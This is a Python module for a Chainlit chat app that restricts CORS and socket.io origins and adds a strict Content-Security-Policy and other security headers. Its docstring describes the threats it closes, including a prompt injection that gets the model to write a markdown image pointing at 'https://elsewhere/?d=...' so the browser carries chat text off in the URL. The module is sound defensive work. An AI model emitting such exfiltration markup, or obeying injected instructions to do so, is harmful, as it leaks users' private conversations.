"""What browsers may do with the app: which origins, which scripts, which images.

Chainlit 2.12 answers any origin (`allow_origins = ["*"]` with credentials),
so a page elsewhere could read `GET /user` with the person's cookie, and
accepts a socket.io connection from any page (`cors_allowed_origins=[]` turns
the check off). It sends no Content-Security-Policy, so an image in an answer
(`![x](https://elsewhere/?d=...)`, written by a prompt injection) is fetched by
the browser, carrying the chat's text away in its URL.

- CORS: only `ALLOWED_ORIGINS` get CORS answers; the app's own pages need none.
- socket.io: a browser's connection is accepted from the app's own origin (the
  `Host` it was asked under) or an allowed one; any other `Origin` gets 400.
- every response: `X-Content-Type-Options: nosniff`, `Referrer-Policy: no-referrer`.
- the app's pages: a CSP with scripts only from the app (Chainlit's inline
  scripts by hash, computed from the page as served), images only from the app
  or `data:`/`blob:`, no framing, no fonts or styles from other sites.

`register` (at import, before the server starts) puts the middleware in place;
`install` (at start-up) gives it the allowed origins from the settings.
"""

from __future__ import annotations

import base64
import hashlib
import re
from collections.abc import Iterable
from urllib.parse import urlsplit

from fastapi import FastAPI
from starlette.middleware import Middleware
from starlette.middleware.cors import CORSMiddleware
from starlette.types import ASGIApp, Message, Receive, Scope, Send

_allowed: frozenset[str] = frozenset()
_INLINE_SCRIPT = re.compile(
    rb"<script(?![^>]*\bsrc=)[^>]*>(.*?)</script>", re.DOTALL | re.IGNORECASE
)
_EVERY_RESPONSE = ((b"x-content-type-options", b"nosniff"), (b"referrer-policy", b"no-referrer"))
PAGE_POLICY = (
    "default-src 'self'; script-src {scripts}; style-src 'self' 'unsafe-inline'; "
    "img-src 'self' data: blob:; font-src 'self' data:; connect-src 'self'; "
    "media-src 'self' blob:; worker-src 'self' blob:; object-src 'none'; base-uri 'self'; "
    "form-action 'self'; frame-ancestors 'none'"
)


def install(allowed_origins: Iterable[str]) -> None:
    global _allowed
    _allowed = frozenset(allowed_origins)


def register(app: FastAPI, sio) -> None:
    """Replace Chainlit's CORS middleware and add the headers one; check socket.io origins.
    A second call (Chainlit's reload re-imports the app) changes nothing."""
    sio.eio.cors_allowed_origins = socket_origin_allowed
    stack = app.user_middleware
    if any(m.cls is SecurityHeaders for m in stack):
        return
    if app.middleware_stack is not None:
        raise RuntimeError("browser_policy.register must run before the server starts")
    cors = Middleware(
        AllowedOrigins,
        allow_origins=[],
        allow_credentials=True,
        allow_methods=["*"],
        allow_headers=["*"],
    )
    stack[:] = [cors if m.cls is CORSMiddleware else m for m in stack]
    stack.append(Middleware(SecurityHeaders))  # innermost: it sees pages before gzip does


class AllowedOrigins(CORSMiddleware):
    """Starlette's CORS, answering only the origins in ALLOWED_ORIGINS (read at each request)."""

    def is_allowed_origin(self, origin: str) -> bool:
        return origin in _allowed


def socket_origin_allowed(origin: str | None, environ: dict) -> bool:
    """The app's own origin (the host the browser asked for) or an allowed one."""
    if origin is None:
        return True  # not a browser: it has no one's cookie but its own
    return origin in _allowed or urlsplit(origin).netloc == environ.get("HTTP_HOST")


def page_policy(html: bytes) -> str:
    """The CSP for a page: its own inline scripts, by hash, and nothing else inline."""
    hashes = sorted({_sha256(script) for script in _INLINE_SCRIPT.findall(html)})
    return PAGE_POLICY.format(scripts=" ".join(["'self'", *hashes]))


def _sha256(script: bytes) -> str:
    return "'sha256-" + base64.b64encode(hashlib.sha256(script).digest()).decode() + "'"


class SecurityHeaders:
    """Adds the headers above; an HTML page is held (Chainlit's is ~2 KB) to hash its scripts."""

    def __init__(self, app: ASGIApp) -> None:
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        start: Message | None = None
        body: list[bytes] = []

        async def send_with_headers(message: Message) -> None:
            nonlocal start
            if message["type"] == "http.response.start":
                start = {**message, "headers": _with_defaults(message.get("headers", []))}
                if not _is_html(start):
                    await send(start)
                    start = None
                return
            if start is None or message["type"] != "http.response.body":
                await send(message)
                return
            body.append(message.get("body", b""))
            if message.get("more_body", False):
                return
            page = b"".join(body)
            headers = [(k, v) for k, v in start["headers"] if k.lower() != b"content-length"]
            headers += [
                (b"content-length", str(len(page)).encode()),
                (b"content-security-policy", page_policy(page).encode()),
            ]
            await send({**start, "headers": headers})
            await send({"type": "http.response.body", "body": page})

        await self.app(scope, receive, send_with_headers)


def _with_defaults(headers) -> list[tuple[bytes, bytes]]:
    headers = list(headers)
    present = {key.lower() for key, _ in headers}
    return headers + [(key, value) for key, value in _EVERY_RESPONSE if key not in present]


def _is_html(start: Message) -> bool:
    return any(
        k.lower() == b"content-type" and v.startswith(b"text/html") for k, v in start["headers"]
    )
